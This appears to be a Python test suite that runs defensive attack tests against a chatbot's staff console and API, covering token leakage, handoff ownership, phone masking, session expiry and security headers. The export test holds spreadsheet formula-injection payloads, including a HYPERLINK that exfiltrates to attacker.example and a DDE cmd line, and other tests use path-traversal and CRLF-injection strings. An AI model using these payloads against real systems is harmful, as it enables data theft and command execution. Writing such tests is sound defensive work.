"""Attack tests on the staff console, its JSON API and the calls it makes to Rasa, against the running stack.

Staff users and tokens are created with bot.store.leads on the stack's database; every test uses its own.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import statistics
import time
import uuid
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
import requests
import sqlalchemy as sa

from bot import db
from bot.store import handoffs, leads
from bot.store import staff as staff_store
from tests.support.console import PASSWORD, bearer, log_in, make_token, make_user, summaries_caught_up, unique


def raw_request(stack, method: str, path: str, headers: dict) -> tuple[int, str]:
    """Send ``path`` byte for byte (like curl --path-as-is): no client-side dot-segment or escape clean-up."""
    parts = urlsplit(stack.web_url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        connection.request(
            method,
            path,
            body=b"{}" if method == "POST" else None,
            headers={**headers, "Content-Type": "application/json"},
        )
        answer = connection.getresponse()
        return answer.status, answer.read().decode("utf-8", "replace")
    finally:
        connection.close()


def ask_for_a_human(stack, sender: str) -> None:
    """The visitor says 「转人工」 over REST (the test stack is always in business hours) and is queued."""
    assert "正在为您转接" in stack.text(sender, "转人工")
    with db.session_scope(stack.database_url) as session:
        assert handoffs.open_handoff(sender, session=session) is not None


def queue(stack, sender: str) -> None:
    """Queue ``sender`` for a human as the handoff action does (the id may come from any channel)."""
    with db.session_scope(stack.database_url) as session:
        handoffs.queue_handoff(sender, "rest", session=session)


def tracker_events(stack, sender: str) -> list[tuple[str, str]]:
    """(type, text) of every event Rasa stored for exactly ``sender``, read from the tracker store."""
    engine = db.get_engine(stack.tracker_store_url)
    events = sa.Table("events", sa.MetaData(), autoload_with=engine)
    with engine.connect() as connection:
        return [
            (row.type_name, json.loads(row.data or "{}").get("text") or "")
            for row in connection.execute(
                sa.select(events.c.type_name, events.c.data).where(events.c.sender_id == sender)
            )
        ]


def new_log(stack, offset: int) -> str:
    return stack.log.read_bytes()[offset:].decode("utf-8", "replace")


@pytest.fixture(scope="module")
def agent_token(stack):
    return make_token(stack, "agent")


@pytest.fixture(scope="module")
def admin_token(stack):
    return make_token(stack, "admin")


# ---------- F1, N1: the Rasa token and conversation ids in Rasa API URLs
@pytest.mark.parametrize("conversation_id", ["..", "%2e%2e", "x%3F", "x%23", "%2e", "x%23%2Ftracker", "x%3Fa%3D1"])
def test_f01_n01_id_tricks_never_return_the_rasa_token(stack, agent_token, conversation_id):
    """F1, N1: ids that end or climb out of the Rasa URL get a clean 4xx, never the token (body or log)."""
    offset = stack.log.stat().st_size
    for method, action in [("GET", "messages"), ("POST", "messages"), ("POST", "claim"), ("POST", "end")]:
        status, body = raw_request(
            stack, method, f"/console/api/handoffs/{conversation_id}/{action}", bearer(agent_token)
        )
        assert stack.token not in body and "token=" not in body and "5005" not in body, (method, action, body)
        assert 400 <= status < 500, (method, action, status, body)
    stack.log_settled()
    assert stack.token not in new_log(stack, offset)


def test_f01_n01_an_open_handoff_whose_id_breaks_urls_fails_cleanly(stack, agent_token):
    """F1, N1: a visitor-chosen sender with `?` queued for a human: every staff action answers without the token."""
    sender = unique("n1-query") + "?token=x#"
    offset = stack.log.stat().st_size
    queue(stack, sender)
    encoded = quote(sender, safe="")
    headers = bearer(agent_token)
    claimed = requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/claim", headers=headers, timeout=15)
    assert claimed.status_code == 200
    sent = requests.post(
        f"{stack.web_url}/console/api/handoffs/{encoded}/messages", headers=headers, json={"text": "您好"}, timeout=15
    )
    read = requests.get(f"{stack.web_url}/console/api/handoffs/{encoded}/messages", headers=headers, timeout=15)
    for answer in (sent, read):
        assert answer.status_code == 400 and stack.token not in answer.text
        assert "cannot" in answer.json()["error"]
    ended = requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/end", headers=headers, timeout=15)
    assert ended.status_code == 200 and stack.token not in ended.text
    stack.log_settled()
    assert stack.token not in new_log(stack, offset)


def test_n01_a_staff_message_never_lands_in_a_lookalike_conversation(stack, agent_token):
    """N1: a sender ``…-%41`` must not route staff messages to the victim ``…-A`` (nor to ``…-%2541``)."""
    base = unique("n1-route")
    victim, attacker = f"{base}-A", f"{base}-%41"
    stack.text(victim, "你好")
    before = tracker_events(stack, victim)
    queue(stack, attacker)
    encoded = quote(attacker, safe="")
    headers = bearer(agent_token)
    assert (
        requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/claim", headers=headers, timeout=15).status_code
        == 200
    )
    sent = requests.post(
        f"{stack.web_url}/console/api/handoffs/{encoded}/messages",
        headers=headers,
        json={"text": "员工消息-不应串线"},
        timeout=15,
    )
    assert sent.status_code == 400
    requests.post(f"{stack.web_url}/console/api/handoffs/{encoded}/end", headers=headers, timeout=15)
    # every call above answered after Rasa stored what it did: the trackers read now are final
    assert tracker_events(stack, victim) == before
    assert tracker_events(stack, f"{base}-%2541") == []
    assert not any("员工消息" in text for _, text in tracker_events(stack, attacker))


def test_n01_ids_with_url_punctuation_reach_exactly_their_own_conversation(stack, agent_token):
    """N1: a sender like ``crm:42@x!$,;=`` is served: the staff message lands in that conversation only."""
    sender = unique("n1-exact") + ":42@x!$,;='()*+~"
    queue(stack, sender)
    headers = bearer(agent_token)
    url = f"{stack.web_url}/console/api/handoffs/{quote(sender, safe='')}"
    assert requests.post(f"{url}/claim", headers=headers, timeout=15).status_code == 200
    assert (
        requests.post(f"{url}/messages", headers=headers, json={"text": "顾问在此-精确送达"}, timeout=15).status_code
        == 201
    )
    assert any(
        m["sender"] == "staff" and m["text"] == "顾问在此-精确送达"
        for m in requests.get(f"{url}/messages", headers=headers, timeout=15).json()["messages"]
    )
    assert ("bot", "顾问在此-精确送达") in tracker_events(stack, sender)
    assert requests.post(f"{url}/end", headers=headers, timeout=15).status_code == 200
    assert any("人工服务已结束" in text for _, text in tracker_events(stack, sender))


def test_f01_messages_of_a_conversation_without_an_open_handoff_are_not_served(stack, agent_token):
    """F1, F12: GET /handoffs/<id>/messages is not a side door into any conversation."""
    sender = unique("f1-closed")
    stack.text(sender, "我的电话是13812345678")
    answer = requests.get(
        f"{stack.web_url}/console/api/handoffs/{sender}/messages", headers=bearer(agent_token), timeout=15
    )
    assert answer.status_code == 404 and "13812345678" not in answer.text


# ---------- N4, I6: handoff ownership, tokens as their own principals
def test_n04_a_handoff_belongs_to_the_agent_who_claimed_it(stack, admin_token):
    """N4: another agent (or token) can neither write in, read, nor end a claimed handoff; an admin may end it."""
    sender = unique("n4-owner")
    ask_for_a_human(stack, sender)
    owner, other = make_token(stack, "agent"), make_token(stack, "agent")
    url = f"{stack.web_url}/console/api/handoffs/{sender}"
    assert requests.post(f"{url}/claim", headers=bearer(owner), timeout=15).status_code == 200
    assert requests.post(f"{url}/claim", headers=bearer(other), timeout=15).status_code == 409
    assert requests.post(f"{url}/messages", headers=bearer(other), json={"text": "抢答"}, timeout=15).status_code == 409
    assert requests.get(f"{url}/messages", headers=bearer(other), timeout=15).status_code == 409
    assert requests.post(f"{url}/end", headers=bearer(other), timeout=15).status_code == 409
    with db.session_scope(stack.database_url) as session:
        assert handoffs.open_handoff(sender, session=session).status == "claimed"
    assert requests.post(f"{url}/end", headers=bearer(admin_token), timeout=15).status_code == 200


def test_i06_a_token_named_like_a_user_is_not_that_user(stack):
    """I6, N4: `create-token <user name>` does not give the token the user's claimed handoffs."""
    name = make_user(stack, "agent")
    impostor = make_token(stack, "agent", name=name)
    sender = unique("i6-impostor")
    ask_for_a_human(stack, sender)
    staff = log_in(stack, name)
    url = f"{stack.web_url}/console/api/handoffs/{sender}"
    assert staff.post(f"{url}/claim", headers={"X-CSRF-Token": staff.csrf}, timeout=15).status_code == 200
    assert (
        requests.post(f"{url}/messages", headers=bearer(impostor), json={"text": "冒充"}, timeout=15).status_code == 409
    )
    assert requests.post(f"{url}/end", headers=bearer(impostor), timeout=15).status_code == 409
    assert staff.post(f"{url}/end", headers={"X-CSRF-Token": staff.csrf}, timeout=15).status_code == 200


def test_i06_a_revoked_token_is_refused_at_once(stack):
    """I6: revoke-token takes effect on the next request."""
    name = unique("i6-revoked")
    token = make_token(stack, "agent", name=name)
    assert requests.get(f"{stack.web_url}/console/api/leads", headers=bearer(token), timeout=15).status_code == 200
    with db.session_scope(stack.database_url) as session:
        assert staff_store.revoke_token(name, session=session) == 1
    assert requests.get(f"{stack.web_url}/console/api/leads", headers=bearer(token), timeout=15).status_code == 401


# ---------- F12, N5: phones for agents and tokens, facts for admins
def test_n05_the_facts_api_needs_the_admin_role(stack, agent_token, admin_token):
    """N5: agents and agent tokens get 403 on /console/api/facts, as on /console/facts."""
    url = f"{stack.web_url}/console/api/facts"
    assert requests.get(url, headers=bearer(agent_token), timeout=15).status_code == 403
    agent = log_in(stack, make_user(stack, "agent"))
    assert agent.get(url, timeout=15).status_code == 403
    assert requests.get(url, headers=bearer(admin_token), timeout=15).json()["facts"]


def test_f12_agents_see_masked_phones_on_lead_pages_and_transcripts(stack, agent_token, admin_token):
    """F12: lead detail by id and transcripts (page and API) mask phones for agents; admins see them."""
    sender, phone = unique("f12-pii"), "139" + str(uuid.uuid4().int)[:8]
    stack.text(sender, f"我的电话是{phone}，请联系我")
    with db.session_scope(stack.database_url) as session:
        lead, _ = leads.save_lead(
            {"conversation_id": sender, "channel": "rest", "name": "钱先生", "phone": phone, "consent": True},
            session=session,
        )
        lead_id = lead.id
    masked = leads.mask_phone(phone)
    summaries_caught_up(stack.tracker_store_url, stack.database_url)  # the notifier folds the transcript's summary
    agent, admin = log_in(stack, make_user(stack, "agent")), log_in(stack, make_user(stack, "admin"))
    for page in (f"/console/leads/{lead_id}", f"/console/conversations/{sender}"):
        seen = agent.get(stack.web_url + page, timeout=15).text
        assert phone not in seen and masked in seen, page
        assert phone in admin.get(stack.web_url + page, timeout=15).text, page
    api = f"{stack.web_url}/console/api/conversations/{sender}"
    for reader in (lambda: requests.get(api, headers=bearer(agent_token), timeout=15), lambda: agent.get(api)):
        text = reader().text
        assert phone not in text and masked in text
    assert phone in requests.get(api, headers=bearer(admin_token), timeout=15).text


# ---------- F6: the leads export
def test_f06_export_cells_never_start_a_formula(stack):
    """F6: visitor text that Excel would run as a formula is exported as text (prefixed with ')."""
    payloads = {
        "name": "=1+2",
        "company": '=HYPERLINK("https://attacker.example/x/"&E3,"查看")',
        "region": "+SUM(1)",
        "visitor_note": "@cmd|' /C calc'!A0",
        "licence": "-1",
    }
    sender = unique("f6-formula")
    with db.session_scope(stack.database_url) as session:
        lead, _ = leads.save_lead(
            {
                "conversation_id": "\uff1d" + sender,
                "channel": "rest",
                "phone": "13700001111",
                "consent": True,
                **payloads,
            },
            session=session,
        )
        lead_id = lead.id
    admin = log_in(stack, make_user(stack, "admin"))
    text = admin.get(f"{stack.web_url}/console/leads/export.csv", timeout=30).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["id"] == str(lead_id))
    for field, value in payloads.items():
        assert row[field] == "'" + value
    assert row["conversation_id"] == "'\uff1d" + sender
    assert row["phone"] == "13700001111"
    for any_row in rows:
        assert not any(cell[:1] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" for cell in any_row.values() if cell)


# ---------- F7: sessions die on the server
def test_f07_a_copied_cookie_dies_with_logout(stack):
    """F7: a cookie saved before logout no longer opens the console or its API."""
    staff = log_in(stack, make_user(stack, "admin"))
    thief = requests.Session()
    thief.cookies.update(staff.cookies)
    assert thief.get(f"{stack.web_url}/console/leads", allow_redirects=False, timeout=15).status_code == 200
    staff.post(f"{stack.web_url}/console/logout", data={"csrf_token": staff.csrf}, timeout=15)
    assert thief.get(f"{stack.web_url}/console/leads", allow_redirects=False, timeout=15).status_code == 302
    assert thief.get(f"{stack.web_url}/console/api/leads", timeout=15).status_code == 401


def test_f07_deleting_or_demoting_a_user_takes_effect_at_the_next_request(stack):
    """F7: the role comes from the database, and a deleted user's cookie is worthless."""
    name = make_user(stack, "admin")
    staff = log_in(stack, name)
    assert staff.get(f"{stack.web_url}/console/facts", timeout=15).status_code == 200
    with db.session_scope(stack.database_url) as session:
        staff_store.set_role(name, "agent", session=session)
    assert staff.get(f"{stack.web_url}/console/facts", timeout=15).status_code == 403
    assert staff.get(f"{stack.web_url}/console/api/facts", timeout=15).status_code == 403
    with db.session_scope(stack.database_url) as session:
        staff_store.delete_user(name, session=session)
    assert staff.get(f"{stack.web_url}/console/leads", allow_redirects=False, timeout=15).status_code == 302
    assert staff.get(f"{stack.web_url}/console/api/leads", timeout=15).status_code == 401


# ---------- F10: login
def test_f10_an_unknown_user_takes_as_long_as_a_wrong_password(stack):
    """F10: the login time does not tell whether a user exists."""
    name = make_user(stack, "agent")

    def timed(username: str) -> float:
        browser = requests.Session()
        page = browser.get(f"{stack.web_url}/console/login", timeout=10).text
        token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
        started = time.perf_counter()
        answer = browser.post(
            f"{stack.web_url}/console/login",
            timeout=30,
            data={"username": username, "password": "wrong password!", "csrf_token": token},
        )
        assert answer.status_code == 401
        return time.perf_counter() - started

    known = statistics.median(timed(name) for _ in range(4))  # below the lockout of 5
    unknown = statistics.median(timed(unique("nobody")) for _ in range(4))
    assert unknown > 0.5 * known, (known, unknown)


# ---------- N6, I1: headers
def test_n06_console_pages_and_api_cannot_be_framed_sniffed_or_cached(stack, agent_token):
    """N6, I1: the console forbids framing and inline scripts, and nothing of it is stored by caches."""
    admin = log_in(stack, make_user(stack, "admin"))
    for answer in (
        requests.get(f"{stack.web_url}/console/login", timeout=10),
        admin.get(f"{stack.web_url}/console/leads", timeout=10),
        admin.get(f"{stack.web_url}/console/leads/export.csv", timeout=10),
        requests.get(f"{stack.web_url}/console/api/leads", headers=bearer(agent_token), timeout=10),
    ):
        policy = answer.headers.get("Content-Security-Policy", "")
        assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy, answer.url
        assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
        assert answer.headers.get("X-Frame-Options") == "DENY"
        assert answer.headers.get("X-Content-Type-Options") == "nosniff"
        assert "no-store" in answer.headers.get("Cache-Control", "")
        assert answer.headers.get("Referrer-Policy")


def test_n06_widget_files_stay_embeddable_from_other_sites(stack):
    """N6: the widget's script, styles and socket.io client load cross-site (no blocking CORP), typed and nosniff."""
    for path, kind in [
        ("/widget.js", "javascript"),
        ("/widget.css", "text/css"),
        ("/vendor/socket.io.min.js", "javascript"),
    ]:
        answer = requests.get(stack.web_url + path, headers={"Origin": "https://customer.example"}, timeout=10)
        assert answer.status_code == 200 and kind in answer.headers["Content-Type"]
        assert answer.headers.get("X-Content-Type-Options") == "nosniff"
        assert answer.headers.get("Cross-Origin-Resource-Policy", "cross-origin") == "cross-origin"
        assert "X-Frame-Options" not in answer.headers


# ---------- N8: odd input
def test_n08_non_ascii_tokens_are_refused_cleanly(stack):
    """N8, I2: a non-ASCII CSRF or bearer token gets 401/403, not 500."""
    staff = log_in(stack, make_user(stack, "agent"))
    assert staff.post(f"{stack.web_url}/console/logout", data={"csrf_token": "é"}, timeout=10).status_code == 403
    assert (
        staff.post(
            f"{stack.web_url}/console/api/handoffs/x/claim", headers={"X-CSRF-Token": "é".encode()}, timeout=10
        ).status_code
        == 403
    )
    assert (
        requests.get(
            f"{stack.web_url}/console/api/leads", headers={"Authorization": "Bearer é".encode()}, timeout=10
        ).status_code
        == 401
    )


def test_n08_crlf_in_next_after_login_is_refused_cleanly(stack):
    """N8: a CR/LF in ``next`` sends the user to the console home instead of a 500."""
    name = make_user(stack, "agent")
    browser = requests.Session()
    page = browser.get(f"{stack.web_url}/console/login", timeout=10).text
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    answer = browser.post(
        f"{stack.web_url}/console/login?next=%2Fconsole%0d%0aSet-Cookie%3A%20x%3D1",
        data={"username": name, "password": PASSWORD, "csrf_token": token},
        allow_redirects=False,
        timeout=30,
    )
    assert answer.status_code == 302 and "\n" not in answer.headers["Location"]
    assert urlsplit(answer.headers["Location"]).path.rstrip("/") == "/console"
    assert "x" not in browser.cookies


# ---------- N6, I1 in a real browser: the policies break nothing a user does
def _browser(playwright, *extra: str):
    from tests.support.browser import ARGS, CHROMIUM

    return playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS + list(extra), headless=True)


def _chromium_missing() -> bool:
    from tests.support.browser import CHROMIUM

    return not Path(CHROMIUM).exists()


VIOLATIONS = """window.__violations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__violations.push(e.violatedDirective + " " + e.blockedURI);
});"""


@pytest.mark.browser  # launches chromium itself: named here, as no fixture shows it
@pytest.mark.skipif(_chromium_missing(), reason="Debian chromium is installed by make test")
def test_i01_the_console_works_under_its_content_security_policy(stack):
    """I1, N6: styles, dashboard charts and the handoff desk run with no CSP violation."""
    from playwright.sync_api import sync_playwright

    name = make_user(stack, "admin")
    with sync_playwright() as playwright:
        browser = _browser(playwright)
        page = browser.new_page(locale="zh-CN")
        page.set_default_timeout(20000)
        page.add_init_script(VIOLATIONS)
        page.goto(stack.web_url + "/console/login")
        assert page.evaluate("window.__violations") == []
        page.fill("input[name=username]", name)
        page.fill("input[name=password]", PASSWORD)
        page.click("button[type=submit]")
        page.goto(stack.web_url + "/console/dashboard")
        page.wait_for_function("() => window.Chart && Chart.getChart(document.getElementById('funnel'))")
        assert page.eval_on_selector("nav", "e => getComputedStyle(e).backgroundColor") == "rgb(15, 76, 129)"
        assert page.evaluate("window.__violations") == []
        for path in ("/console/handoff", "/console/leads", "/console/conversations", "/console/facts"):
            page.goto(stack.web_url + path)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.__violations") == [], path
        page.goto(stack.web_url + "/console/handoff")
        page.wait_for_function("() => document.getElementById('queue').textContent.length > 0")
        browser.close()


@pytest.mark.browser  # launches chromium itself: named here, as no fixture shows it
@pytest.mark.skipif(_chromium_missing(), reason="Debian chromium is installed by make test")
def test_n06_the_widget_embeds_in_a_customer_site_even_under_coep(stack):
    """N6: a customer page on another origin (here with COEP require-corp) loads the widget and gets answers."""
    from playwright.sync_api import sync_playwright

    web = urlsplit(stack.web_url)
    customer = f"http://localhost:{web.port}/customer-site"  # another origin, listed in CORS_ORIGINS
    html = (
        f'<!doctype html><html><head><meta charset="utf-8"></head><body><h1>客户网站</h1>'
        f'<script src="{stack.web_url}/widget.js" data-server="{stack.web_url}" async></script></body></html>'
    )
    with sync_playwright() as playwright:
        # the customer page is served by Playwright, which chromium counts as a public address: allow it to
        # reach the loopback servers of the test stack as a real customer site reaches the public web app
        browser = _browser(playwright, "--disable-features=LocalNetworkAccessChecks")
        page = browser.new_page(locale="zh-CN")
        page.set_default_timeout(30000)
        page.route(
            customer,
            lambda route: route.fulfill(
                status=200,
                body=html,
                headers={"Content-Type": "text/html; charset=utf-8", "Cross-Origin-Embedder-Policy": "require-corp"},
            ),
        )
        page.goto(customer)
        page.get_by_test_id("chat-launcher").click()
        page.get_by_test_id("chat-input").fill("全网和地网有什么区别")
        page.get_by_test_id("chat-input").press("Enter")
        page.wait_for_function("""() => Array.from(document.querySelector('[data-cclw]').shadowRoot
            .querySelectorAll('[data-testid=chat-message-bot]')).some(m => m.innerText.includes('工业和信息化部'))""")
        browser.close()
